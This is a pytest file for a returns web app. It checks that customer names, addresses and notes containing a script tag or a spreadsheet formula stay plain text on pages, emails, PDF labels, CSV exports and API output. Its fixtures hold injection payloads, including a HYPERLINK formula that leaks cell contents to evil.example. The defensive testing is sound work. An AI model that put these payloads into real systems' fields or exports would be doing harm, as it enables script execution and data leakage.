"""A customer's name, address or note holding markup or a spreadsheet formula stays plain text
on every page, in every email, on the label and in any export."""

from __future__ import annotations

import io
import json
import re
from datetime import date
from email import message_from_string
from pathlib import Path
from typing import Any

import pytest
from chalice.test import Client
from pypdf import PdfReader

from chalicelib.adapters.reportlab_labels import render_label
from chalicelib.domain.order import Address
from chalicelib.services.console_reports import safe_cell
from chalicelib.services.label_document import LabelDocument, LabelLine
from tests.documents import an_order_document, days_ago
from tests.functional.conftest import ADMIN, put_policy
from tests.functional.test_returns_api import parts, sent_emails
from tests.functional.test_shopper_pages import Browser

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = f"{SCRIPT} {FORMULA}"
NUMBER = "S9001"
EMAIL = "mallory@example.com"
CHALICELIB = Path(__file__).resolve().parents[2] / "chalicelib"


@pytest.fixture(scope="module", autouse=True)
def hostile_order(client: Client) -> None:
    put_policy(client)
    address = {"name": HOSTILE, "line1": FORMULA, "line2": SCRIPT, "city": "=1+1", "region": "@SUM(A1)",
               "postal_code": "10001", "country": "US"}
    document = an_order_document(
        number=NUMBER, email=EMAIL, locale="en", currency="USD", customer_name=HOSTILE,
        shipping_address=address, placed_at=days_ago(6), delivered_at=days_ago(4),
    )
    response = client.http.put(f"/api/v1/admin/orders/{NUMBER}", headers=ADMIN, body=json.dumps(document))
    assert response.status_code in (200, 201), response.json_body


def assert_no_live_markup(html: str, where: str) -> None:
    assert "<script>alert(1)" not in html, f"a raw script tag on {where}"
    assert "&lt;script&gt;" in html or "&#60;script" in html or SCRIPT not in html, where


def test_a_hostile_name_and_note_are_text_on_every_page_and_in_the_email(client: Client, aws_endpoint: str) -> None:
    shopper = Browser(client)
    answer = shopper.post("/lookup", {"order_number": NUMBER, "email": EMAIL})
    assert answer.status_code == 303, answer.body
    items = shopper.get("/return/items")
    assert_no_live_markup(items.body.decode(), "the items page")
    assert "&lt;script&gt;" in items.body.decode()  # the name is there, escaped
    csrf = shopper.csrf_of("/return/items")
    chosen = shopper.post("/return/items", {
        "csrf": csrf, "return-0": "1", "quantity-0": "1", "reason-0": "not_as_described", "note-0": HOSTILE})
    assert chosen.status_code == 303, chosen.body.decode()[:2000]
    resolution = shopper.get("/return/resolution")
    assert_no_live_markup(resolution.body.decode(), "the resolution page")
    shopper.post("/return/resolution", {"csrf": shopper.csrf_of("/return/resolution"), "resolution": "refund"})
    review = shopper.get("/return/review")
    assert_no_live_markup(review.body.decode(), "the review page")
    assert "&lt;script&gt;" in review.body.decode()  # the note is shown, escaped
    done = shopper.post("/return/confirm", {"csrf": shopper.csrf_of("/return/review")})
    assert done.status_code == 303, done.body
    rma = re.search(r"/returns/([^/]+)/confirmation", done.headers["Location"])
    assert rma
    for path in (done.headers["Location"], f"/returns/{rma.group(1)}"):
        page = shopper.get(path)
        assert page.status_code == 200, path
        assert_no_live_markup(page.body.decode(), path)

    mails = [m for m in sent_emails(aws_endpoint) if EMAIL in m["destinations"]]
    assert mails, "the shopper was not emailed"
    for mail in mails:
        body = parts(message_from_string(mail["raw_data"]))
        assert "html" in body
        assert_no_live_markup(body["html"], "the shopper's email")


def test_a_hostile_name_and_address_are_plain_text_on_the_label() -> None:
    hostile = Address(HOSTILE, FORMULA, "=1+1", "10001", "US", line2=SCRIPT, region="@SUM(A1)")
    document = LabelDocument(
        rma="R-20261123-7K3M9Q", order_number=NUMBER, store_name="Retour Demo Store",
        return_to=Address("Returns", "100 Warehouse Way", "Reno", "89501", "US", region="NV"),
        ship_from=hostile, customer_name=HOSTILE,
        status_url="https://returns.example.com/returns/R-20261123-7K3M9Q",
        locale="en", lines=(LabelLine(HOSTILE, "SKU-1", 1, FORMULA),), generated_on=date(2026, 11, 23),
    )
    for size in ("4x6", "a4"):
        pdf = render_label(document, size)
        # No action, script or form in the file: a PDF viewer has nothing to run or follow.
        # A name ends at a delimiter: the embedded font's subset name /AAAAAA+... is not /AA.
        for marker in (b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch", b"/AcroForm", b"/AA"):
            assert not re.search(re.escape(marker) + rb"(?=[\s/<>\[\]()%{}])", pdf), \
                f"{marker!r} in the {size} label"
        text = "".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(pdf)).pages)
        # The formula is drawn as the characters it is (wrapping may break it across lines).
        assert "HYPERLINK" in text.replace("\n", "")


# The one export: the console's returns CSV (/console/reports/returns.csv). Its route's own test
# (tests/functional/test_console_reports.py) downloads a return whose shopper note is a formula.
CSV_EXPORTS = {"services/console_reports.py", "web/console/reports.py"}


def test_the_only_spreadsheet_export_defuses_every_cell_that_could_run_as_a_formula() -> None:
    exporting = {str(p.relative_to(CHALICELIB)) for p in CHALICELIB.rglob("*.py") if re.search(
        r"text/csv|\bimport csv\b|spreadsheetml|\.xlsx", p.read_text(encoding="utf-8"))}
    assert exporting == CSV_EXPORTS, (
        f"a CSV/spreadsheet export appeared in {sorted(exporting - CSV_EXPORTS)}: defuse its formula cells "
        "(safe_cell) and test them here")
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}HYPERLINK(\"https://evil.example\")").startswith("'"), repr(start)
    # Plain text, and text with a formula character later on, is left as the shopper wrote it.
    assert safe_cell("Too small, 2-3 sizes") == "Too small, 2-3 sizes"
    assert safe_cell("") == ""


def test_a_hostile_name_comes_back_from_the_admin_api_as_the_same_json_string(client: Client) -> None:
    response = client.http.get(f"/api/v1/admin/orders/{NUMBER}", headers=ADMIN)
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("application/json")
    body: Any = response.json_body
    assert body["customer_name"] == HOSTILE
